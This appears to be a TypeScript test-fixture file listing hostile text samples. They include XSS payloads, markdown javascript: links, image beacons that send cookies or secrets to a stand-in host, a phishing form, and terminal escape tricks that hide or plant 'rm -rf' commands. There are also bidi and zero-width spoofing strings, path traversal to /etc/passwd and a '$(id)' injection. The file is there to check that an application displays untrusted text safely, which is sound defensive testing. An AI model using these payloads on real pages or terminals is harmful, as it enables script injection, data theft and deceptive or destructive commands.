// Texts of somebody who wants to run code in a reader's browser, to be loaded from there, to lie about what is read, or to
// break the page. Planted wherever a text can come from; `ranHostile` and `HOSTILE_HOST` tell whether one of them worked.

/** Nothing listens there; a request to it is what the attacks want. */
export const HOSTILE_HOST = "hostile.example";
/** What their scripts do. Short, so that it fits into names. */
const ACT = "top.ranHostile=1";

export type HostileText = {
  /** What it tries. */
  name: string;
  text: string;
};

const markup: HostileText[] = [
  { name: "script", text: `<script>${ACT}</script>` },
  { name: "image handler", text: `<img src=x onerror="${ACT}">` },
  { name: "svg handler", text: `<svg/onload=${ACT}>` },
  { name: "out of an attribute", text: `" onmouseover="${ACT}" autofocus onfocus="${ACT}" x="` },
  { name: "out of a title", text: `</title></textarea></style><script>${ACT}</script>` },
  { name: "out of a script", text: `</script><script>${ACT}</script>` },
  { name: "frame", text: `<iframe srcdoc="<script>${ACT}</script>"></iframe>` },
  { name: "frame of elsewhere", text: `<iframe src="https://${HOSTILE_HOST}/"></iframe>` },
  { name: "remote image", text: `<img src="https://${HOSTILE_HOST}/p.png?${"{document.cookie}"}">` },
  { name: "style", text: `<style>@import "https://${HOSTILE_HOST}/x.css"; * { display: none }</style>` },
  { name: "base", text: `<base href="https://${HOSTILE_HOST}/">` },
  { name: "refresh", text: `<meta http-equiv="refresh" content="0;url=https://${HOSTILE_HOST}/">` },
  { name: "form", text: `<form action="https://${HOSTILE_HOST}/"><input name="key"><button>Allow</button></form>` },
  { name: "details", text: `<details open ontoggle="${ACT}">x</details>` },
  { name: "comment", text: `<!--><img src=x onerror="${ACT}">-->` },
  { name: "entities", text: `&lt;script&gt;${ACT}&lt;/script&gt; &#60;img src=x onerror=${ACT}&#62;` },
  { name: "template", text: `{{constructor.constructor('${ACT}')()}} \${${ACT}}` },
  { name: "script address", text: `javascript:${ACT}` },
  { name: "data address", text: `data:text/html,<script>${ACT}</script>` },
];

const markdown: HostileText[] = [
  { name: "markdown link to a script", text: `[click](javascript:${ACT})` },
  { name: "markdown link in disguise", text: `[https://bank.example](https://${HOSTILE_HOST}/)` },
  { name: "markdown link with a tab", text: `[click](java\tscript:${ACT})` },
  { name: "markdown image", text: `![pixel](https://${HOSTILE_HOST}/p.png?q=secret)` },
  { name: "markdown image by reference", text: `![pixel][p]\n\n[p]: https://${HOSTILE_HOST}/p.png` },
  { name: "markdown autolink", text: `<https://${HOSTILE_HOST}/"onmouseover=${ACT}>` },
  { name: "markdown fence left open", text: `\`\`\`html\n<script>${ACT}</script>` },
  { name: "markdown table", text: `| <img src=x onerror=${ACT}> | b |\n|---|---|\n| [x](javascript:${ACT}) | =1+1 |` },
  { name: "markdown deep quotes", text: `${">".repeat(200)} deep` },
];

const terminal: HostileText[] = [
  { name: "terminal title", text: "\u001b]0;owned\u0007after" },
  { name: "terminal clipboard", text: "\u001b]52;c;cm0gLXJmIH4=\u0007after" },
  { name: "terminal link", text: `\u001b]8;;https://${HOSTILE_HOST}/\u0007click\u001b]8;;\u0007` },
  { name: "terminal erase", text: "rm -rf /\u001b[2K\u001b[1Gecho safe" },
  { name: "carriage return", text: "rm -rf /\recho safe   " },
  { name: "backspace", text: `rm -rf /${"\b".repeat(8)}echo ok` },
  { name: "concealed", text: "safe\u001b[8mhidden\u001b[0m" },
  { name: "terminal report", text: "\u001b[6n\u001b[c\u001bP$qm\u001b\\" },
  { name: "sequence left open", text: "\u001b]0;never closed" },
];

const lies: HostileText[] = [
  { name: "override", text: "photo_\u202egpj.exe" },
  { name: "isolate", text: "allow \u2066\u2067 deny\u2069" },
  { name: "marks", text: "a\u200eb\u200fc\u061cd" },
  { name: "zero width", text: "ad\u200bmin\u200c\u200d\ufeff\u2060" },
  { name: "soft hyphen", text: "pay\u00adpal" },
  {
    name: "tags",
    text: `ok${[..."rm -rf"].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join("")}`,
  },
  { name: "fillers", text: "a\u3164b\u115fc\uffa0d" },
  { name: "look-alike", text: "\u0430dmin \uff1cscript\uff1e" },
  { name: "right to left", text: "\u05e9\u05dc\u05d5\u05dd abc 123 \u0645\u0631\u062d\u0628\u0627" },
  { name: "line separators", text: "one\u2028two\u2029three" },
];

const breakers: HostileText[] = [
  { name: "controls", text: "\u0001\u0002\u0007\u0008\u000b\u000c\u001f\u007f\u0085\u009b31m" },
  { name: "long word", text: "w".repeat(240) },
  { name: "long emoji", text: "👩‍👩‍👧‍👦".repeat(12) },
  { name: "stacked marks", text: `Z${"\u0300\u0301\u0302\u0303\u0304".repeat(20)}` },
  { name: "spaces", text: "   \u00a0\u2003\u3000   " },
  { name: "formula", text: '=HYPERLINK("https://hostile.example","click")' },
  { name: "names of JavaScript", text: "__proto__ constructor toString hasOwnProperty" },
  { name: "JSON", text: '{"__proto__":{"a":1},"type":"agent.message"}' },
  { name: "path", text: "../../../etc/passwd\\..\\x" },
  { name: "quotes", text: `'"\`\\ $(id) ; | & > < %00 %2e%2e` },
];

/** Each of them fits into a name of 256 characters. */
export const hostileTexts: readonly HostileText[] = [...markup, ...markdown, ...terminal, ...lies, ...breakers];

/** Too long for a name; for bodies. */
export const hugeTexts: readonly HostileText[] = [
  { name: "a word of 20,000 letters", text: "W".repeat(20_000) },
  { name: "a line of 1 MB", text: "0123456789abcdef".repeat(65_536) },
  { name: "20,000 lines", text: Array.from({ length: 20_000 }, (_, line) => `line ${line}`).join("\n") },
];

/** PostgreSQL's text and JSON cannot hold these two; the API is to refuse or to mend them. */
export const unstorableTexts: readonly HostileText[] = [
  { name: "NUL", text: "before\u0000after" },
  { name: "half a character", text: "before\ud800after" },
];

/** All of them in one body of text, each with its name. */
export const hostileBody: string = hostileTexts.map(({ name, text }) => `${name}:\n\n${text}`).join("\n\n");

/** Characters of a text that would lie about it if they were shown as they are; what is on a page must not hold one. */
export const LYING =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters to find
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2067]/;
